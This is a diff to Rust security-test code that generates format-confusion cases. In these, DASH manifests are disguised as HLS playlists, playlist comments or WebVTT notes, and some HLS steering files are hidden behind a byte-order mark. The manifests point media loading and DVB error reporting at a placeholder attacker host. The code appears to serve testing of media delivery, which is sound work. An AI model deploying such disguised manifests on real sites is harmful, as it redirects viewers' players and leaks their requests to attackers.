@@ -653,7 +653,7 @@ fn misnamed(site: &AttackSite<'_>) -> Vec<Case> {
         xmlns=\"urn:mpeg:dash:schema:urlparam:2014\" queryTemplate=\"$querypart$\" useMPDUrlQuery=\"true\"/>\
         </SupplementalProperty>";
     let dash = format!(
-        "<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" \
+        "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" \
          mediaPresentationDuration=\"PT8S\" minBufferTime=\"PT2S\" \
          profiles=\"urn:mpeg:dash:profile:isoff-live:2011\">{property}<Period><BaseURL>{evil}/</BaseURL>\
          <AdaptationSet mimeType=\"video/mp4\" contentType=\"video\">{property}\
@@ -684,6 +684,63 @@ fn misnamed(site: &AttackSite<'_>) -> Vec<Case> {
                 .with("steer.json", "application/json", steering()),
             );
         }
+    }
+    let reports = dash.replace(
+        property,
+        &format!(
+            "<Metrics metrics=\"DVBErrors\"><Reporting schemeIdUri=\"urn:dvb:dash:reporting:2014\" value=\"1\" \
+             xmlns:dvb=\"urn:dvb:dash:dash-extensions:2014-1\" dvb:reportingUrl=\"{evil}/\" \
+             dvb:probability=\"1000\"/></Metrics>"
+        ),
+    );
+    // Names that the edge reads as one format, and a player as the other.
+    for (name, file, kind, text) in [
+        (
+            "DASH in a playlist",
+            "p.m3u8",
+            HLS,
+            format!("#EXTM3U\n{dash}"),
+        ),
+        (
+            "DASH in a comment",
+            "p.m3u8",
+            HLS,
+            format!("#EXTM3U\n#{dash}"),
+        ),
+        (
+            "DASH in a note",
+            "storyboard.vtt",
+            "text/vtt",
+            format!("WEBVTT\n\nNOTE\n{dash}"),
+        ),
+        ("DASH by its type", "x", HLS, format!("#EXTM3U\n{dash}")),
+        (
+            "DASH with reports",
+            "x.mpd",
+            DASH,
+            format!("#EXTM3U\n{reports}"),
+        ),
+        (
+            "steering behind a mark",
+            "p.m3u8",
+            HLS,
+            format!("\u{feff}{plain}"),
+        ),
+        (
+            "steering in a storyboard",
+            "storyboard.vtt",
+            "text/vtt",
+            plain.clone(),
+        ),
+    ] {
+        cases.push(
+            Case {
+                name: name.to_owned(),
+                files: vec![(file.to_owned(), kind.to_owned(), text.into_bytes())],
+            }
+            .with("s.m3u8", HLS, media(""))
+            .with("steer.json", "application/json", steering()),
+        );
     }
     cases
 }
